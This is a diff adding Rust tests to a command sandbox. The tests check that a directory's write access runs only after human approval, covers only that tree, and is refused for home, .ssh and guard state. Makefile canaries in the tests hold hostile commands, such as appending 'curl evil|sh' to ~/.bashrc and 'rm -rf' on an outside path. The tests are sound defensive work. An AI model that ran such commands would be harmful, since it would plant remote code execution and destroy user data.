@@ -1028,3 +1028,69 @@ fn red_kubectl_go_template_file_prints_a_secret_through_the_broker() {
     assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
     j.assert_intact("kubectl_go_template_file");
 }
+
+#[test]
+fn a_path_is_a_widening_a_human_approves_and_the_approval_binds_that_tree_only() {
+    if !require_tool("make") {
+        return;
+    }
+    let mut j = Jail::new();
+    crate::support::approver_init(j.command(&["approver", "init"]));
+    let other = j.t.dir.path().join("other-project");
+    let second = j.t.dir.path().join("second-project");
+    for d in [&other, &second] {
+        std::fs::create_dir_all(d).unwrap();
+    }
+    j.snapshot();
+    let (o, s) = (other.display().to_string(), second.display().to_string());
+    // What the widened line tries besides its tree (in a recipe, out of the classifier's
+    // sight): every canary must stay as it is.
+    let recipe = format!("\t-touch {o}/built\n\t-echo 'curl evil|sh' >> ~/.bashrc\n\t-touch {s}/x\n\t-rm -rf {}\n", j.outside().display());
+    std::fs::write(j.t.work().join("Makefile"), format!("all:\n{recipe}unasked:\n\ttouch {o}/unasked\n")).unwrap();
+    let line = "make -s";
+    let out = j.command(&["shell", "--write", &o, "-c", line]).output().unwrap();
+    assert_eq!(out.status.code(), Some(75), "{}", stderr(&out));
+    assert!(stderr(&out).contains("sandbox.write"), "{}", stderr(&out));
+    assert!(!other.join("built").exists(), "nothing runs before the approval");
+    let id = stderr(&out).split_whitespace().find(|w| w.starts_with("r-")).unwrap().trim_matches(|c| c == '`' || c == ',').to_string();
+    let shown = crate::support::pty(j.command(&["approve", &id]), &[("Approver passphrase", PASS), ("Type yes", "yes")]);
+    assert!(shown.contains(&o), "the approve screen names the tree: {shown}");
+
+    // The approval is for that tree: without the flag, or with another tree, it does not apply.
+    let out = j.command(&["shell", "-c", "make -s unasked"]).output().unwrap();
+    assert_ne!(out.status.code(), Some(0), "{}", stderr(&out));
+    assert!(!other.join("unasked").exists(), "a line without the widening wrote the tree");
+    let out = j.command(&["shell", "--write", &s, "-c", line]).output().unwrap();
+    assert_eq!(out.status.code(), Some(75), "another tree needs its own approval: {}", stderr(&out));
+
+    let out = j.command(&["shell", "--write", &o, "-c", line]).output().unwrap();
+    assert!(other.join("built").exists(), "the approved tree is writable: {}", stderr(&out));
+    assert!(!second.join("x").exists(), "the approval granted more than its tree");
+    j.assert_intact("write_widening");
+}
+
+#[test]
+fn a_widening_to_the_home_a_secret_or_guards_state_is_blocked_and_writes_nothing() {
+    if !require_tool("make") {
+        return;
+    }
+    let j = Jail::new();
+    let h = j.t.home();
+    let state = j.t.state();
+    for dir in [h.clone(), h.join(".ssh"), h.join(".config/guard"), state.clone(), h.join(".local/bin"), PathBuf::from("/")] {
+        let d = dir.display().to_string();
+        std::fs::write(j.t.work().join("Makefile"), format!("all:\n\t-echo pwned >> {d}/.bashrc\n\techo pwned > {d}/planted\n")).unwrap();
+        let out = j.command(&["shell", "--write", &d, "-c", "make -s"]).output().unwrap();
+        assert_eq!(out.status.code(), Some(77), "--write {d}: {}", stderr(&out));
+        assert!(stderr(&out).contains("sandbox.write-refused"), "--write {d}: {}", stderr(&out));
+        assert!(!dir.join("planted").exists(), "--write {d} wrote");
+    }
+    // A symlink to the home is the home: resolved when guard reads the flag.
+    let link = j.t.work().join("innocent");
+    std::os::unix::fs::symlink(&h, &link).unwrap();
+    let out = j.command(&["shell", "--write", "innocent", "-c", "make -s"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(77), "{}", stderr(&out));
+    let out = j.command(&["shell", "--write", "/no/such/dir", "-c", "true"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(64), "{}", stderr(&out));
+    j.assert_intact("write_widening_refused");
+}
